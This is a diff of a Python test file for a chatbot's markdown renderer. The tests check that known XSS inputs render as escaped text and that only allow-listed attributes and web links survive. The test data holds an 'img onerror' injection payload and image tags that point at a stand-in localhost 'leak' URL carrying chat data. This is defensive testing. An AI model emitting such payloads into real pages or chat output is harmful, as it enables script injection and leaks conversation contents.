@@ -8,6 +8,7 @@ import orjson
 import pytest
 
 from agent.events import AnswerDelta, Finished, StepStarted, ToolArgsDelta, ToolCallStarted, ToolResult
+from support.adversarial_markdown import PARSER_DISAGREEMENTS, corpus
 from ui.chatbot import PreparedChatbot
 from ui.render import (
     ALLOWED_ATTRIBUTES,
@@ -20,14 +21,7 @@ from ui.render import (
 )
 from ui.view import FOOTER_ID, TurnView
 
-INJECTED = "<img src=x onerror=alert(1)>"
-DISAGREEMENTS = {
-    # Each rendered as a live `<img onerror>` through the hand-written code finder this replaces
-    # (`safe_markdown` on main before this change, then CommonMark with HTML on, as the Chatbot did).
-    "escaped backtick": f"a \\` b {INJECTED} ` c",
-    "code span across a blank line": f"a ` b\n\n{INJECTED}\n\nc ` d",
-    "fence whose info string holds a backtick": f"```a`b\n{INJECTED}\n```",
-}
+CORPUS = corpus("http://127.0.0.1:9/leak")
 LEAKS = {
     "img": "<img src=http://127.0.0.1:9999/leak?q=chat>",
     "markdown image": "![chart](http://127.0.0.1:9999/leak?q=chat)",
@@ -53,12 +47,23 @@ def assert_allowed(html: str) -> None:
         assert attributes <= allowed, html
 
 
-@pytest.mark.parametrize("text", DISAGREEMENTS.values(), ids=list(DISAGREEMENTS))
+@pytest.mark.parametrize("text", PARSER_DISAGREEMENTS.values(), ids=list(PARSER_DISAGREEMENTS))
 def test_the_three_old_parser_disagreements_are_inert_and_visible(text):
+    """Each rendered as a live `<img onerror>` through the hand-written code finder this renderer
+    replaced (`safe_markdown` on main before it, then CommonMark with HTML on, as the Chatbot did)."""
     html = markdown_html(text)
     assert "<img" not in html
     assert "&lt;img src=x onerror=alert(1)&gt;" in html, "the tag shows as text"
     assert_allowed(html)
+
+
+@pytest.mark.parametrize("own_markup", [False, True], ids=["model text", "own markup"])
+@pytest.mark.parametrize("text", CORPUS.values(), ids=list(CORPUS))
+def test_nothing_outside_the_allow_list_survives(text, own_markup):
+    html = markdown_html(text, own_markup=own_markup)
+    assert_allowed(html)
+    for href in re.findall(r'<a href="([^"]*)"', html):  # a link the reader may follow, to the web only
+        assert href.startswith(("http://", "https://")), html
 
 
 @pytest.mark.parametrize("text", LEAKS.values(), ids=list(LEAKS))
